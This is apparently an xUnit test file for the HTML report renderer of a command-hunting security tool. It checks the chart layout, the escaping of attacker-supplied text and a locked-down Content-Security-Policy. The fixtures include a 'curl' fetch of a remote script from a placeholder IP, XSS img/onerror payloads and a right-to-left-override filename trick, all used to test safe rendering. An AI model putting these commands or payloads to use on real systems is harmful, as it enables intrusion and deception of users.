using System;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using B64Hunt.Reports;
using Xunit;

namespace B64Hunt.Tests.Reports
{
    public class HtmlReportRendererTests
    {
        private static readonly XNamespace Svg = "http://www.w3.org/2000/svg";

        private static (string Html, XDocument Doc) Render()
        {
            string html = HtmlReportRenderer.Render(ReportFixture.Layout(), new HtmlReportOptions { Title = "Hunt <2024>" });
            Assert.StartsWith("<!DOCTYPE html>\n", html);
            // Well-formed: everything after the doctype parses as XML.
            var doc = XDocument.Parse(html.Substring("<!DOCTYPE html>\n".Length));
            return (html, doc);
        }

        [Fact]
        public void HasEverySection()
        {
            var (_, doc) = Render();
            var ids = doc.Descendants().Select(e => (string?)e.Attribute("id")).Where(id => id != null).ToList();
            foreach (var id in new[] { "ranking", "ranking-table", "composition", "score-chart", "timeline", "timeline-chart", "alerts", "alerts-table" })
            {
                Assert.Contains(id, ids);
            }
            Assert.Equal("Hunt <2024>", doc.Descendants("title").First().Value);
        }

        [Fact]
        public void DrawsOneRowBarAndMarkPerCommand()
        {
            var (_, doc) = Render();
            var rows = doc.Descendants("tr").Where(e => (string?)e.Attribute("class") == "score-row").ToList();
            Assert.Equal(4, rows.Count);                          // curl, whoami, payload, uname
            Assert.Equal("1", rows[0].Elements("td").First().Value);
            Assert.Equal(4, doc.Descendants(Svg + "g").Count(g => (string?)g.Attribute("class") == "command-bar"));
            var chartRects = doc.Descendants(Svg + "rect").Where(r => ((string?)r.Attribute("class") ?? "").StartsWith("bar ")).ToList();
            // Freq for all 4, Sev for curl, Alert for curl, whoami (web1) and the payload (db1): 4 + 1 + 3 = 8 segments.
            Assert.Equal(8, chartRects.Count);
            Assert.All(chartRects, r => Assert.NotNull(r.Element(Svg + "title")));
            // Marks: curl@web1, whoami@web1, whoami@web2, payload@db1, uname@evil host = 5; alerts: 2.
            var marks = doc.Descendants(Svg + "circle").Where(c => ((string?)c.Attribute("class") ?? "").StartsWith("mark ")).ToList();
            Assert.Equal(5, marks.Count);
            Assert.Equal(2, doc.Descendants(Svg + "polygon").Count(p => (string?)p.Attribute("class") == "alert-mark"));
            Assert.Equal(2, doc.Descendants("tr").Count(e => (string?)e.Attribute("class") == "alert-row"));
            // Hovering a mark tells command, host and time.
            var curl = marks.Single(m => m.Element(Svg + "title")!.Value.Contains("curl http://203.0.113.9/x.sh"));
            string tip = curl.Element(Svg + "title")!.Value;
            Assert.Contains("host: web1", tip);
            Assert.Contains("time: 2024-05-01 10:30:00Z", tip);
            Assert.Contains("band-critical", (string)curl.Attribute("class")!);   // 1 + 3 + 3 = 7
        }

        [Fact]
        public void EscapesAttackerText()
        {
            var (html, doc) = Render();
            Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<b>bold", html);
            Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("</script>", html, StringComparison.OrdinalIgnoreCase);
            Assert.Contains("&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;", html);
            Assert.Contains("evil&lt;img src=x onerror=alert(2)&gt;", html);
            // No raw control or bidi characters: ESC is shown as ␛, RIGHT-TO-LEFT OVERRIDE as �.
            Assert.DoesNotContain("\u001b", html, StringComparison.Ordinal);   // ordinal: culture rules ignore control characters
            Assert.DoesNotContain("\u202E", html, StringComparison.Ordinal);
            Assert.Contains("␛[31mred", html);
            // The payload reads back as text, unchanged but for the visible stand-ins.
            var pre = doc.Descendants("pre").Select(p => p.Value).Single(v => v.Contains("onerror=alert(1)"));
            Assert.StartsWith(ReportFixture.Payload + "\nline two ␛[31mred�gnp.exe", pre);
        }

        [Fact]
        public void IsSelfContainedAndLockedDownByCsp()
        {
            var (html, doc) = Render();
            var csp = doc.Descendants("meta").Single(m => (string?)m.Attribute("http-equiv") == "Content-Security-Policy");
            string policy = (string)csp.Attribute("content")!;
            Assert.Contains("default-src 'none'", policy);
            Assert.Contains("script-src 'none'", policy);
            // The only style allowed is the report's own, by hash.
            string css = doc.Descendants("style").Single().Value;
            string hash = Convert.ToBase64String(SHA256.HashData(Encoding.UTF8.GetBytes(css)));
            Assert.Contains("style-src 'sha256-" + hash + "'", policy);
            // No external resource: no src attribute, no link element, no http(s) reference but the SVG namespace.
            Assert.DoesNotContain(doc.Descendants(), e => e.Attribute("src") != null);
            Assert.Empty(doc.Descendants("link"));
            var urls = Regex.Matches(html, "https?://[^\"'\\s<]+").Select(m => m.Value)
                .Where(u => u != "http://www.w3.org/2000/svg" && !u.StartsWith("http://203.0.113.9")).ToList();
            Assert.Empty(urls);
            Assert.DoesNotContain(doc.Descendants(), e => e.Attributes().Any(a => a.Name.LocalName.StartsWith("on", StringComparison.OrdinalIgnoreCase)));
        }

        [Fact]
        public void EmptyHuntStillRendersWellFormed()
        {
            var layout = TimelineLayout.Build(Array.Empty<B64Hunt.Model.CommandScore>(), null, 0);
            string html = HtmlReportRenderer.Render(layout);
            var doc = XDocument.Parse(html.Substring("<!DOCTYPE html>\n".Length));
            Assert.DoesNotContain(doc.Descendants("tr"), e => (string?)e.Attribute("class") == "score-row");
            Assert.Contains("No related alerts were given.", html);
        }
    }
}
